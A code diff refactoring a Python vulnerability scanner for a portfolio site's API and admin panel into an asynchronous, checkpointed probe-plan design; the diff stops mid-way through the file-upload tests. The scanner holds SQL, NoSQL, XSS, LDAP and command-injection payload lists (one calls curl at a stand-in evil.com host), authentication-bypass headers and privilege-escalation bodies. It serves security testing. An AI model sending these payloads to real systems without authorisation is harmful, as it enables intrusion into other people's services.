@@ -4,29 +4,114 @@ Advanced Portfolio API Vulnerability Scanner
 Tests all API endpoints and admin functions for security vulnerabilities
 """
 
-import requests
+import argparse
+import asyncio
 import json
+import multiprocessing
 import time
 import threading
 import base64
+import functools
 import urllib.parse
-from concurrent.futures import ThreadPoolExecutor
 import hashlib
 import random
 import string
 
+from scanner_core import (AsyncTransport, Checkpoint, CircuitBreaker, Console, Coordinator, ExclusiveGate,
+                          FindingsStore, HTTP2_AVAILABLE, IndicatorMatcher, ModuleProfiler, ModuleRegistry,
+                          OpenLoopBurst, PlanExecutor, Probe, ProbeMetrics, ProbePlan, RaceEngine, ReportWriter,
+                          RescanStore, ResponseCache, SNIFF_BYTES, SpaBaseline, TargetBatch, export_metrics,
+                          parse_address, range_headers, read_targets, run_worker, serve_metrics, sniff_artifact,
+                          target_slug, total_size)
+
+# Every keyword set the detectors use, compiled once; each response body is scanned once
+INDICATORS = IndicatorMatcher({
+    # Check for admin content without authentication
+    'admin_content': ['admin', 'dashboard', 'management', 'control panel'],
+    'auth_protection': ['login', 'sign in', 'authenticate', 'unauthorized'],
+    'workflow_admin': ['admin', 'dashboard', 'manage'],
+    # Check for successful login indicators
+    'login_success': ['welcome', 'dashboard', 'success', 'token', 'jwt'],
+    # Check for SQL errors
+    'sql_error': [
+        'sql syntax', 'mysql', 'postgresql', 'sqlite', 'oracle',
+        'syntax error', 'query failed', 'database error',
+        'column', 'table', 'constraint', 'foreign key'
+    ],
+    # Check for LDAP errors or unusual responses
+    'ldap_error': ['ldap', 'distinguished name', 'invalid dn'],
+    # Check if it's actually sensitive content
+    'sensitive': [
+        'password', 'secret', 'key', 'token', 'api_key',
+        'database_url', 'connection_string', 'private_key'
+    ],
+    'directory_listing': ['index of', 'directory listing']
+})
+
+# Command output is matched case-sensitively, as before
+COMMAND_OUTPUT = IndicatorMatcher({
+    'command_output': [
+        'root:x:', 'usr/bin', 'localhost', '127.0.0.1',
+        'uid=', 'gid=', 'groups=', 'vulnerable'
+    ]
+}, ignore_case=False)
+
+# The registered modules test_business_logic_vulnerabilities runs
+BUSINESS_LOGIC_MODULES = ('_test_rate_limiting', '_test_race_conditions', '_test_input_validation_bypass',
+                          '_test_workflow_bypass')
+
+# Sensitive file probes stream their bodies and never keep more than this
+DISCLOSURE_READ_LIMIT = 2 ** 20
+
+# Archives and dumps are identified by their first bytes; anything else recognised is critical
+ARTIFACT_SEVERITY = {'git_head': 'high', 'ds_store': 'medium'}
+
 class PortfolioVulnScanner:
-    def __init__(self, target_url):
+    # Admin endpoints
+    ADMIN_ENDPOINTS = [
+        '/admin', '/admin/login', '/admin/dashboard', '/admin/users',
+        '/admin/projects', '/admin/hero', '/admin/about', '/admin/skills',
+        '/admin/contact', '/admin/messages', '/admin/media', '/admin/upload',
+        '/admin/settings', '/admin/analytics', '/admin/logs', '/admin/backup'
+    ]
+
+    def __init__(self, target_url, max_concurrency=64, per_host_limit=16, transport=None,
+                 burst_rps=25, burst_requests=50, checkpoint=None, rescan=None, findings_store=None,
+                 console=None, http2=False, metrics=None):
         self.target = target_url.rstrip('/')
-        self.session = requests.Session()
+        # Pass a transport to share its connection pool and response cache with other tools
+        self.transport = transport or AsyncTransport(max_concurrency=max_concurrency,
+                                                     per_host_limit=per_host_limit,
+                                                     cache=ResponseCache(), http2=http2, metrics=metrics)
+        # Dead endpoints and refused methods are found before the payload matrix and skipped during it
+        self.breaker = CircuitBreaker()
+        self.executor = PlanExecutor(self.transport, self.target, workers=max_concurrency, breaker=self.breaker)
+        self.baseline = SpaBaseline(self.transport)
+        self.race_engine = RaceEngine(self.transport)
+        # Output goes through a background sink so probe workers never wait on the terminal
+        self.console = console or Console()
+        self.console.watch(self.transport)
+        # Rate-limit bursts go out open-loop at burst_rps, burst_requests per endpoint
+        self.burst_rps = burst_rps
+        self.burst_requests = burst_requests
+        # Findings go straight to the store; each severity is a query over this run's rows
+        self.findings_store = findings_store or FindingsStore(tool='advanced_vuln_scanner', target=self.target)
         self.results = {
-            'critical': [],
-            'high': [],
-            'medium': [],
-            'low': [],
-            'info': []
+            'critical': self.findings_store.view(severity='critical'),
+            'high': self.findings_store.view(severity='high'),
+            'medium': self.findings_store.view(severity='medium'),
+            'low': self.findings_store.view(severity='low'),
+            'info': self.findings_store.view(severity='info')
         }
-        
+        # Completed steps and probes are journalled here; a resumed checkpoint brings its findings back
+        self.checkpoint = checkpoint or Checkpoint()
+        # Validators and probe fingerprints from the last run, so unchanged responses are not re-analysed
+        self.rescan = rescan
+        if rescan is not None:
+            self.transport.rescan = rescan
+        for severity, finding in self.checkpoint.findings:
+            self.findings_store.add(severity, finding)
+
     def log(self, severity, message, details=None):
         """Log findings with severity levels"""
         finding = {
@@ -34,7 +119,11 @@ class PortfolioVulnScanner:
             'message': message,
             'details': details or {}
         }
-        self.results[severity].append(finding)
+        is_new = self.findings_store.add(severity, finding)
+        self.checkpoint.record([severity, finding])
+        # A repeat of an earlier finding only bumps its count; it is not printed again
+        if not is_new:
+            return
         
         colors = {
             'critical': '\033[1;91m',  # Bright Red
@@ -45,13 +134,25 @@ class PortfolioVulnScanner:
         }
         
         reset = '\033[0m'
-        print(f"{colors.get(severity, '')}{severity.upper()}: {message}{reset}")
-        if details:
-            print(f"    Details: {details}")
+        self.console.finding(f"{colors.get(severity, '')}{severity.upper()}: {message}{reset}",
+                             f"    Details: {details}" if details else None)
+
+    def close(self):
+        """Release pooled connections held by the transport"""
+        self.transport.close()
+        self.checkpoint.close()
+        self.findings_store.close()
+        self.console.close()
+        if self.rescan is not None:
+            self.rescan.save()
+
+    def step(self, name, func, *args):
+        """Run one resumable part of the scan; skipped if the checkpoint already completed it"""
+        return self.checkpoint.step(name, func, *args)
 
     def test_api_endpoints(self):
         """Comprehensive API endpoint testing"""
-        print("\n=== API ENDPOINT VULNERABILITY TESTING ===")
+        self.console.info("\n=== API ENDPOINT VULNERABILITY TESTING ===")
         
         # Standard API endpoints
         endpoints = [
@@ -63,65 +164,72 @@ class PortfolioVulnScanner:
             '/api/v1', '/api/v2', '/graphql', '/api/graphql'
         ]
         
-        # Test each endpoint with multiple methods
-        for endpoint in endpoints:
-            self._test_endpoint_methods(endpoint)
-            
+        # Test every endpoint with multiple methods in one concurrent batch
+        self.step('_test_endpoint_methods', self._test_endpoint_methods, endpoints)
+        
         # Test API versioning vulnerabilities
-        self._test_api_versioning()
+        self.step('_test_api_versioning', self._test_api_versioning)
         
         # Test GraphQL introspection
-        self._test_graphql_introspection()
+        self.step('_test_graphql_introspection', self._test_graphql_introspection)
 
-    def _test_endpoint_methods(self, endpoint):
+    def _test_endpoint_methods(self, endpoints):
         """Test HTTP methods on each endpoint"""
         methods = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS', 'TRACE']
+        probes = [(endpoint, method) for endpoint in endpoints for method in methods]
+        sent = time.monotonic()
+        responses = self.transport.fetch_all([
+            {'method': method, 'url': f"{self.target}{endpoint}", 'timeout': 5}
+            for endpoint, method in probes
+        ])
         
-        for method in methods:
-            try:
-                response = self.session.request(method, f"{self.target}{endpoint}", timeout=5)
-                
-                # Check for interesting responses
-                if response.status_code == 200 and method in ['DELETE', 'PUT', 'PATCH']:
-                    self.log('high', f"Dangerous HTTP method allowed: {method} {endpoint}", 
-                            {'status': response.status_code, 'size': len(response.text)})
-                
-                elif response.status_code == 405 and 'Allow' in response.headers:
-                    allowed_methods = response.headers['Allow']
-                    if any(danger in allowed_methods for danger in ['DELETE', 'PUT', 'PATCH']):
-                        self.log('medium', f"Dangerous methods exposed: {endpoint}", 
-                                {'allowed_methods': allowed_methods})
-                
-                elif method == 'TRACE' and response.status_code == 200:
-                    self.log('medium', f"HTTP TRACE method enabled: {endpoint}", 
-                            {'trace_response': response.text[:200]})
-                            
-                elif method == 'OPTIONS' and response.status_code == 200:
-                    cors_headers = {k: v for k, v in response.headers.items() if 'cors' in k.lower() or 'access-control' in k.lower()}
-                    if cors_headers:
-                        self.log('info', f"CORS headers found: {endpoint}", cors_headers)
-                        
-            except Exception as e:
+        for (endpoint, method), response in zip(probes, responses):
+            # The attack plan's liveness check reuses these answers instead of asking again; the
+            # batch went out all at once, so its failures are not counted as a run
+            self.breaker.observe(endpoint, method, response, sent)
+            if response is None:
                 continue
+        
+            # Check for interesting responses
+            if response.status_code == 200 and method in ['DELETE', 'PUT', 'PATCH']:
+                self.log('high', f"Dangerous HTTP method allowed: {method} {endpoint}",
+                        {'status': response.status_code, 'size': len(response.text)})
+        
+            elif response.status_code == 405 and 'Allow' in response.headers:
+                allowed_methods = response.headers['Allow']
+                if any(danger in allowed_methods for danger in ['DELETE', 'PUT', 'PATCH']):
+                    self.log('medium', f"Dangerous methods exposed: {endpoint}",
+                            {'allowed_methods': allowed_methods})
+        
+            elif method == 'TRACE' and response.status_code == 200:
+                self.log('medium', f"HTTP TRACE method enabled: {endpoint}",
+                        {'trace_response': response.text[:200]})
+        
+            elif method == 'OPTIONS' and response.status_code == 200:
+                cors_headers = {k: v for k, v in response.headers.items()
+                                if 'cors' in k.lower() or 'access-control' in k.lower()}
+                if cors_headers:
+                    self.log('info', f"CORS headers found: {endpoint}", cors_headers)
 
     def _test_api_versioning(self):
         """Test for API versioning vulnerabilities"""
         versions = ['v1', 'v2', 'v3', 'beta', 'test', 'dev', 'staging']
+        responses = self.transport.fetch_all([
+            {'method': 'GET', 'url': f"{self.target}/api/{version}", 'timeout': 5}
+            for version in versions
+        ])
         
-        for version in versions:
-            try:
-                response = self.session.get(f"{self.target}/api/{version}", timeout=5)
-                if response.status_code == 200:
-                    self.log('info', f"API version discovered: /api/{version}", 
-                            {'status': response.status_code})
-                    
-                    # Test for version-specific vulnerabilities
-                    if version in ['dev', 'test', 'staging']:
-                        self.log('medium', f"Development API version exposed: /api/{version}", 
-                                {'warning': 'May contain debug features'})
-                        
-            except Exception:
+        for version, response in zip(versions, responses):
+            if response is None:
                 continue
+            if response.status_code == 200:
+                self.log('info', f"API version discovered: /api/{version}",
+                        {'status': response.status_code})
+        
+                # Test for version-specific vulnerabilities
+                if version in ['dev', 'test', 'staging']:
+                    self.log('medium', f"Development API version exposed: /api/{version}",
+                            {'warning': 'May contain debug features'})
 
     def _test_graphql_introspection(self):
         """Test GraphQL introspection queries"""
@@ -151,68 +259,67 @@ class PortfolioVulnScanner:
             """
         }
         
-        for endpoint in graphql_endpoints:
-            try:
-                response = self.session.post(f"{self.target}{endpoint}", 
-                                           json=introspection_query, timeout=10)
-                if response.status_code == 200 and 'data' in response.text:
-                    self.log('high', f"GraphQL introspection enabled: {endpoint}", 
-                            {'schema_exposed': True})
-                            
-            except Exception:
+        responses = self.transport.fetch_all([
+            {'method': 'POST', 'url': f"{self.target}{endpoint}",
+             'json': introspection_query, 'timeout': 10}
+            for endpoint in graphql_endpoints
+        ])
+        
+        for endpoint, response in zip(graphql_endpoints, responses):
+            if response is None:
                 continue
+            if response.status_code == 200 and 'data' in response.text:
+                self.log('high', f"GraphQL introspection enabled: {endpoint}",
+                        {'schema_exposed': True})
 
     def test_admin_functions(self):
         """Comprehensive admin function testing"""
-        print("\n=== ADMIN FUNCTION VULNERABILITY TESTING ===")
-        
-        # Admin endpoints
-        admin_endpoints = [
-            '/admin', '/admin/login', '/admin/dashboard', '/admin/users',
-            '/admin/projects', '/admin/hero', '/admin/about', '/admin/skills',
-            '/admin/contact', '/admin/messages', '/admin/media', '/admin/upload',
-            '/admin/settings', '/admin/analytics', '/admin/logs', '/admin/backup'
-        ]
+        self.console.info("\n=== ADMIN FUNCTION VULNERABILITY TESTING ===")
+        
+        admin_endpoints = self.ADMIN_ENDPOINTS
         
         # Test direct access
-        self._test_admin_direct_access(admin_endpoints)
+        self.step('_test_admin_direct_access', self._test_admin_direct_access, admin_endpoints)
         
         # Test admin login bypass
-        self._test_admin_login_bypass()
+        self.step('_test_admin_login_bypass', self._test_admin_login_bypass)
         
         # Test privilege escalation
-        self._test_privilege_escalation()
+        self.step('_test_privilege_escalation', self._test_privilege_escalation)
         
         # Test admin CSRF
-        self._test_admin_csrf(admin_endpoints)
+        self.step('_test_admin_csrf', self._test_admin_csrf, admin_endpoints)
 
     def _test_admin_direct_access(self, endpoints):
         """Test direct access to admin functions"""
-        for endpoint in endpoints:
-            try:
-                response = self.session.get(f"{self.target}{endpoint}", timeout=5)
-                
-                # Check for admin content without authentication
-                admin_keywords = ['admin', 'dashboard', 'management', 'control panel']
-                auth_keywords = ['login', 'sign in', 'authenticate', 'unauthorized']
-                
-                content = response.text.lower()
-                
-                if response.status_code == 200:
-                    has_admin_content = any(keyword in content for keyword in admin_keywords)
-                    has_auth_protection = any(keyword in content for keyword in auth_keywords)
-                    
-                    if has_admin_content and not has_auth_protection:
-                        self.log('critical', f"Admin panel accessible without authentication: {endpoint}",
-                                {'status': response.status_code, 'size': len(response.text)})
-                    elif has_admin_content:
-                        self.log('info', f"Admin panel found with protection: {endpoint}")
-                        
-                elif response.status_code in [401, 403]:
-                    self.log('info', f"Admin panel properly protected: {endpoint}")
-                    
-            except Exception:
+        self.baseline.learn(self.target)
+        responses = self.transport.fetch_all([
+            {'method': 'GET', 'url': f"{self.target}{endpoint}", 'timeout': 5}
+            for endpoint in endpoints
+        ])
+        
+        for endpoint, response in zip(endpoints, responses):
+            if response is None:
                 continue
+        
+            # The SPA rewrite serves the same shell for every route; nothing to analyse
+            if self.baseline.matches(response):
+                continue
+        
+            if response.status_code == 200:
+                # Check for admin content without authentication
+                hits = INDICATORS.scan(response)
+                has_admin_content = hits.hit('admin_content')
+                has_auth_protection = hits.hit('auth_protection')
+        
+                if has_admin_content and not has_auth_protection:
+                    self.log('critical', f"Admin panel accessible without authentication: {endpoint}",
+                            {'status': response.status_code, 'size': len(response.text)})
+                elif has_admin_content:
+                    self.log('info', f"Admin panel found with protection: {endpoint}")
+        
+            elif response.status_code in [401, 403]:
+                self.log('info', f"Admin panel properly protected: {endpoint}")
 
     def _test_admin_login_bypass(self):
         """Test various admin login bypass techniques"""
@@ -226,20 +333,6 @@ class PortfolioVulnScanner:
             {"email": "admin", "password": {"$gt": ""}},
         ]
         
-        for payload in sql_payloads:
-            try:
-                response = self.session.post(f"{self.target}{login_endpoint}", 
-                                           json=payload, timeout=5)
-                
-                # Check for successful login indicators
-                success_indicators = ['welcome', 'dashboard', 'success', 'token', 'jwt']
-                if any(indicator in response.text.lower() for indicator in success_indicators):
-                    self.log('critical', f"SQL injection bypass successful: {login_endpoint}",
-                            {'payload': str(payload), 'status': response.status_code})
-                    
-            except Exception:
-                continue
-        
         # Test 2: Authentication bypass headers
         bypass_headers = [
             {"X-Forwarded-For": "127.0.0.1"},
@@ -251,18 +344,32 @@ class PortfolioVulnScanner:
             {"Authorization": "Bearer admin"},
         ]
         
-        for headers in bypass_headers:
-            try:
-                response = self.session.post(f"{self.target}{login_endpoint}",
-                                           json={"email": "admin", "password": "admin"},
-                                           headers=headers, timeout=5)
-                
-                if response.status_code not in [401, 403]:
-                    self.log('high', f"Authentication bypass with headers: {login_endpoint}",
-                            {'headers': headers, 'status': response.status_code})
-                            
-            except Exception:
+        responses = self.transport.fetch_all(
+            [{'method': 'POST', 'url': f"{self.target}{login_endpoint}", 'json': payload, 'timeout': 5}
+             for payload in sql_payloads] +
+            [{'method': 'POST', 'url': f"{self.target}{login_endpoint}",
+              'json': {"email": "admin", "password": "admin"}, 'headers': headers, 'timeout': 5}
+             for headers in bypass_headers]
+        )
+        sql_responses = responses[:len(sql_payloads)]
+        header_responses = responses[len(sql_payloads):]
+        
+        for payload, response in zip(sql_payloads, sql_responses):
+            if response is None:
                 continue
+        
+            # Check for successful login indicators
+            if INDICATORS.scan(response).hit('login_success'):
+                self.log('critical', f"SQL injection bypass successful: {login_endpoint}",
+                        {'payload': str(payload), 'status': response.status_code})
+        
+        for headers, response in zip(bypass_headers, header_responses):
+            if response is None:
+                continue
+        
+            if response.status_code not in [401, 403]:
+                self.log('high', f"Authentication bypass with headers: {login_endpoint}",
+                        {'headers': headers, 'status': response.status_code})
 
     def _test_privilege_escalation(self):
         """Test for privilege escalation vulnerabilities"""
@@ -277,57 +384,97 @@ class PortfolioVulnScanner:
             {"access_level": 9999}
         ]
         
-        for endpoint in user_endpoints:
-            for payload in escalation_payloads:
-                try:
-                    response = self.session.post(f"{self.target}{endpoint}", 
-                                               json=payload, timeout=5)
-                    
-                    if response.status_code in [200, 201]:
-                        self.log('high', f"Potential privilege escalation: {endpoint}",
-                                {'payload': payload, 'status': response.status_code})
-                                
-                except Exception:
-                    continue
+        probes = [(endpoint, payload) for endpoint in user_endpoints for payload in escalation_payloads]
+        responses = self.transport.fetch_all([
+            {'method': 'POST', 'url': f"{self.target}{endpoint}", 'json': payload, 'timeout': 5}
+            for endpoint, payload in probes
+        ])
+        
+        for (endpoint, payload), response in zip(probes, responses):
+            if response is None:
+                continue
+            if response.status_code in [200, 201]:
+                self.log('high', f"Potential privilege escalation: {endpoint}",
+                        {'payload': payload, 'status': response.status_code})
 
     def _test_admin_csrf(self, endpoints):
         """Test for CSRF vulnerabilities in admin functions"""
-        for endpoint in endpoints:
-            try:
-                # Test without CSRF token
-                response = self.session.post(f"{self.target}{endpoint}",
-                                           json={"test": "csrf"}, 
-                                           headers={"Origin": "https://evil.com"},
-                                           timeout=5)
-                
-                if response.status_code == 200:
-                    self.log('medium', f"Potential CSRF vulnerability: {endpoint}",
-                            {'origin_bypass': True})
-                            
-            except Exception:
+        # Test without CSRF token
+        responses = self.transport.fetch_all([
+            {'method': 'POST', 'url': f"{self.target}{endpoint}", 'json': {"test": "csrf"},
+             'headers': {"Origin": "https://evil.com"}, 'timeout': 5}
+            for endpoint in endpoints
+        ])
+        
+        for endpoint, response in zip(endpoints, responses):
+            if response is None:
                 continue
+            if response.status_code == 200:
+                self.log('medium', f"Potential CSRF vulnerability: {endpoint}",
+                        {'origin_bypass': True})
+
+    def modules(self, attack_plan=True):
+        """The full scan as a module registry: what each test needs first and which must run alone
+
+        attack_plan=False leaves the injection/upload plan out, for runs that shard it across workers.
+        """
+        registry = ModuleRegistry()
+        # Detectors that compare against the SPA shell need its fingerprint before they start
+        registry.register('learn_baseline', self.baseline.learn, self.target)
+        registry.register('test_api_endpoints', self.test_api_endpoints)
+        registry.register('test_admin_functions', self.test_admin_functions, depends=['learn_baseline'])
+        if attack_plan:
+            # The method sweep tells the plan's liveness check which endpoints answer and to what
+            registry.register('attack_plan', self.run_plan, self.attack_plan(), depends=['test_api_endpoints'])
+        registry.register('_test_input_validation_bypass', self._test_input_validation_bypass)
+        registry.register('_test_workflow_bypass', self._test_workflow_bypass)
+        registry.register('test_information_disclosure', self.test_information_disclosure,
+                          depends=['learn_baseline'])
+        # Burst and race traffic is timed, so each gets the host to itself
+        registry.register('_test_rate_limiting', self._test_rate_limiting, exclusive=True)
+        registry.register('_test_race_conditions', self._test_race_conditions, exclusive=True)
+        return registry
+
+    def attack_plan(self):
+        """Injection and upload probes in one plan so the executor can interleave them"""
+        return self.injection_plan().merge(self.file_upload_plan())
+
+    def run_plan(self, plan):
+        """Execute a probe plan, logging findings in plan order and checkpointing each probe"""
+        return self.executor.execute(plan, self.log, announce=self.console, checkpoint=self.checkpoint,
+                                     rescan=self.rescan, progress=self.console)
 
     def test_injection_vulnerabilities(self):
         """Comprehensive injection testing"""
-        print("\n=== INJECTION VULNERABILITY TESTING ===")
+        self.run_plan(self.injection_plan())
+
+    def injection_plan(self):
+        """Compile every injection probe into a single plan"""
+        plan = ProbePlan()
+        plan.section("\n=== INJECTION VULNERABILITY TESTING ===")
         
         # Test SQL injection
-        self._test_sql_injection()
+        plan.merge(self._plan_sql_injection())
         
         # Test NoSQL injection
-        self._test_nosql_injection()
+        plan.merge(self._plan_nosql_injection())
         
         # Test XSS
-        self._test_xss_vulnerabilities()
+        plan.merge(self._plan_xss_vulnerabilities())
         
         # Test Command injection
-        self._test_command_injection()
+        plan.merge(self._plan_command_injection())
         
         # Test LDAP injection
-        self._test_ldap_injection()
+        plan.merge(self._plan_ldap_injection())
+        
+        return plan
 
     def _test_sql_injection(self):
         """Advanced SQL injection testing"""
+        self.run_plan(self._plan_sql_injection())
+
+    def _plan_sql_injection(self):
         endpoints = ['/api/contact', '/api/projects', '/admin/login', '/api/search']
         
         sql_payloads = [
@@ -343,45 +490,41 @@ class PortfolioVulnScanner:
             "admin' OR (SELECT 1 FROM dual WHERE 1=1) --"
         ]
         
+        plan = ProbePlan()
         for endpoint in endpoints:
             for payload in sql_payloads:
-                try:
-                    # Test in different parameters
-                    test_data = {
-                        "email": payload,
-                        "name": payload,
-                        "message": payload,
-                        "search": payload,
-                        "id": payload
-                    }
-                    
-                    response = self.session.post(f"{self.target}{endpoint}",
-                                               json=test_data, timeout=10)
-                    
-                    # Check for SQL errors
-                    error_indicators = [
-                        'sql syntax', 'mysql', 'postgresql', 'sqlite', 'oracle',
-                        'syntax error', 'query failed', 'database error',
-                        'column', 'table', 'constraint', 'foreign key'
-                    ]
-                    
-                    response_text = response.text.lower()
-                    for indicator in error_indicators:
-                        if indicator in response_text:
-                            self.log('high', f"SQL injection error detected: {endpoint}",
-                                    {'payload': payload, 'error': indicator})
-                            break
-                    
-                    # Check for time-based injection
-                    if 'pg_sleep' in payload and response.elapsed.total_seconds() > 4:
-                        self.log('critical', f"Time-based SQL injection: {endpoint}",
-                                {'payload': payload, 'delay': response.elapsed.total_seconds()})
-                        
-                except Exception:
-                    continue
+                # Test in different parameters
+                test_data = {
+                    "email": payload,
+                    "name": payload,
+                    "message": payload,
+                    "search": payload,
+                    "id": payload
+                }
+                plan.add(Probe('POST', endpoint, self._detect_sql_injection, json=test_data,
+                               timeout=10, context={'payload': payload}, module='sql_injection'))
+        return plan
+
+    def _detect_sql_injection(self, probe, response):
+        payload = probe.context['payload']
+        
+        # Check for SQL errors
+        indicator = INDICATORS.scan(response).first('sql_error')
+        if indicator:
+            yield ('high', f"SQL injection error detected: {probe.path}",
+                   {'payload': payload, 'error': indicator})
+        
+        # Check for time-based injection; elapsed excludes time spent queued on the
+        # concurrency caps, so the threshold means the same as it did sequentially
+        if 'pg_sleep' in payload and response.elapsed.total_seconds() > 4:
+            yield ('critical', f"Time-based SQL injection: {probe.path}",
+                   {'payload': payload, 'delay': response.elapsed.total_seconds()})
 
     def _test_nosql_injection(self):
         """NoSQL injection testing"""
+        self.run_plan(self._plan_nosql_injection())
+
+    def _plan_nosql_injection(self):
         endpoints = ['/api/contact', '/admin/login', '/api/projects']
         
         nosql_payloads = [
@@ -395,28 +538,29 @@ class PortfolioVulnScanner:
             {"$size": 1}
         ]
         
+        plan = ProbePlan()
         for endpoint in endpoints:
             for payload in nosql_payloads:
-                try:
-                    test_data = {
-                        "email": payload,
-                        "password": payload,
-                        "name": payload
-                    }
-                    
-                    response = self.session.post(f"{self.target}{endpoint}",
-                                               json=test_data, timeout=5)
-                    
-                    # Check for unusual responses
-                    if response.status_code not in [400, 401, 422]:
-                        self.log('medium', f"NoSQL injection potential: {endpoint}",
-                                {'payload': str(payload), 'status': response.status_code})
-                                
-                except Exception:
-                    continue
+                test_data = {
+                    "email": payload,
+                    "password": payload,
+                    "name": payload
+                }
+                plan.add(Probe('POST', endpoint, self._detect_nosql_injection, json=test_data,
+                               context={'payload': payload}, module='nosql_injection'))
+        return plan
+
+    def _detect_nosql_injection(self, probe, response):
+        # Check for unusual responses
+        if response.status_code not in [400, 401, 422]:
+            yield ('medium', f"NoSQL injection potential: {probe.path}",
+                   {'payload': str(probe.context['payload']), 'status': response.status_code})
 
     def _test_xss_vulnerabilities(self):
         """Cross-site scripting testing"""
+        self.run_plan(self._plan_xss_vulnerabilities())
+
+    def _plan_xss_vulnerabilities(self):
         endpoints = ['/api/contact', '/api/projects', '/admin/hero', '/admin/about']
         
         xss_payloads = [
@@ -432,38 +576,45 @@ class PortfolioVulnScanner:
             '<object data="data:text/html,<script>alert(\'XSS\')</script>">'
         ]
         
+        plan = ProbePlan()
         for endpoint in endpoints:
             for payload in xss_payloads:
-                try:
-                    test_data = {
-                        "name": payload,
-                        "title": payload,
-                        "description": payload,
-                        "message": payload,
-                        "content": payload
-                    }
-                    
-                    response = self.session.post(f"{self.target}{endpoint}",
-                                               json=test_data, timeout=5)
-                    
-                    # Check if payload is reflected
-                    if payload in response.text:
-                        self.log('high', f"Reflected XSS vulnerability: {endpoint}",
-                                {'payload': payload})
-                    
-                    # Store payload for stored XSS testing
-                    if response.status_code in [200, 201]:
-                        # Try to retrieve and check for stored XSS
-                        get_response = self.session.get(f"{self.target}{endpoint}", timeout=5)
-                        if payload in get_response.text:
-                            self.log('critical', f"Stored XSS vulnerability: {endpoint}",
-                                    {'payload': payload})
-                            
-                except Exception:
-                    continue
+                test_data = {
+                    "name": payload,
+                    "title": payload,
+                    "description": payload,
+                    "message": payload,
+                    "content": payload
+                }
+                plan.add(Probe('POST', endpoint, self._detect_reflected_xss, json=test_data,
+                               context={'payload': payload}, then=self._stored_xss_probe,
+                               module='xss'))
+        return plan
+
+    def _detect_reflected_xss(self, probe, response):
+        # Check if payload is reflected
+        if probe.context['payload'] in response.text:
+            yield ('high', f"Reflected XSS vulnerability: {probe.path}",
+                   {'payload': probe.context['payload']})
+
+    def _stored_xss_probe(self, probe, response):
+        # Store payload for stored XSS testing
+        if response.status_code in [200, 201]:
+            # Try to retrieve and check for stored XSS
+            return Probe('GET', probe.path, self._detect_stored_xss,
+                         context=probe.context, module=probe.module)
+        return None
+
+    def _detect_stored_xss(self, probe, response):
+        if probe.context['payload'] in response.text:
+            yield ('critical', f"Stored XSS vulnerability: {probe.path}",
+                   {'payload': probe.context['payload']})
 
     def _test_command_injection(self):
         """Command injection testing"""
+        self.run_plan(self._plan_command_injection())
+
+    def _plan_command_injection(self):
         endpoints = ['/api/contact', '/api/upload', '/admin/settings']
         
         command_payloads = [
@@ -478,36 +629,31 @@ class PortfolioVulnScanner:
             '`curl http://evil.com`'
         ]
         
+        plan = ProbePlan()
         for endpoint in endpoints:
             for payload in command_payloads:
-                try:
-                    test_data = {
-                        "filename": payload,
-                        "path": payload,
-                        "command": payload,
-                        "name": payload
-                    }
-                    
-                    response = self.session.post(f"{self.target}{endpoint}",
-                                               json=test_data, timeout=10)
-                    
-                    # Check for command output
-                    command_indicators = [
-                        'root:x:', 'usr/bin', 'localhost', '127.0.0.1',
-                        'uid=', 'gid=', 'groups=', 'vulnerable'
-                    ]
-                    
-                    for indicator in command_indicators:
-                        if indicator in response.text:
-                            self.log('critical', f"Command injection detected: {endpoint}",
-                                    {'payload': payload, 'output': indicator})
-                            break
-                            
-                except Exception:
-                    continue
+                test_data = {
+                    "filename": payload,
+                    "path": payload,
+                    "command": payload,
+                    "name": payload
+                }
+                plan.add(Probe('POST', endpoint, self._detect_command_injection, json=test_data,
+                               timeout=10, context={'payload': payload}, module='command_injection'))
+        return plan
+
+    def _detect_command_injection(self, probe, response):
+        # Check for command output
+        indicator = COMMAND_OUTPUT.scan(response).first('command_output')
+        if indicator:
+            yield ('critical', f"Command injection detected: {probe.path}",
+                   {'payload': probe.context['payload'], 'output': indicator})
 
     def _test_ldap_injection(self):
         """LDAP injection testing"""
+        self.run_plan(self._plan_ldap_injection())
+
+    def _plan_ldap_injection(self):
         endpoints = ['/api/auth', '/admin/login', '/api/users']
         
         ldap_payloads = [
@@ -519,33 +665,32 @@ class PortfolioVulnScanner:
             "admin)(|(cn=*))"
         ]
         
+        plan = ProbePlan()
         for endpoint in endpoints:
             for payload in ldap_payloads:
-                try:
-                    test_data = {
-                        "username": payload,
-                        "email": payload,
-                        "filter": payload
-                    }
-                    
-                    response = self.session.post(f"{self.target}{endpoint}",
-                                               json=test_data, timeout=5)
-                    
-                    # Check for LDAP errors or unusual responses
-                    ldap_indicators = ['ldap', 'distinguished name', 'invalid dn']
-                    
-                    for indicator in ldap_indicators:
-                        if indicator in response.text.lower():
-                            self.log('medium', f"LDAP injection potential: {endpoint}",
-                                    {'payload': payload})
-                            break
-                            
-                except Exception:
-                    continue
+                test_data = {
+                    "username": payload,
+                    "email": payload,
+                    "filter": payload
+                }
+                plan.add(Probe('POST', endpoint, self._detect_ldap_injection, json=test_data,
+                               context={'payload': payload}, module='ldap_injection'))
+        return plan
+
+    def _detect_ldap_injection(self, probe, response):
+        # Check for LDAP errors or unusual responses
+        if INDICATORS.scan(response).hit('ldap_error'):
+            yield ('medium', f"LDAP injection potential: {probe.path}",
+                   {'payload': probe.context['payload']})
 
     def test_file_upload_vulnerabilities(self):
         """File upload security testing"""
-        print("\n=== FILE UPLOAD VULNERABILITY TESTING ===")
+        self.run_plan(self.file_upload_plan())
+
+    def file_upload_plan(self):
+        """Compile the malicious upload matrix into a plan"""
+        plan = ProbePlan()
+        plan.section("\n=== FILE UPLOAD VULNERABILITY TESTING ===")
         
         upload_endpoints = ['/api/upload', '/admin/upload', '/api/media', '/admin/media']
         
@@ -568,98 +713,85 @@ class PortfolioVulnScanner:
         
         for endpoint in upload_endpoints:
             for filename, content in malicious_files.items():
-                try:
-                    files = {'file': (filename, content, 'application/octet-stream')}
-                    response = self.session.post(f"{self.target}{endpoint}", 
-                                               files=files, timeout=10)
-                    
-                    if response.status_code in [200, 201]:
-                        self.log('high', f"Malicious file upload accepted: {endpoint}",
-                                {'filename': filename, 'status': response.status_code})
-                        
-                        # Check if file is accessible
-                        if 'path' in response.text or 'url' in response.text:
-                            self.log('critical', f"Uploaded file may be accessible: {endpoint}",
-                                    {'filename': filename, 'response': response.text[:200]})
-                    
-                    # Test double extension bypass
-                    double_ext_name = filename.replace('.', '.jpg.')
-                    files = {'file': (double_ext_name, content, 'image/jpeg')}
-                    response = self.session.post(f"{self.target}{endpoint}",
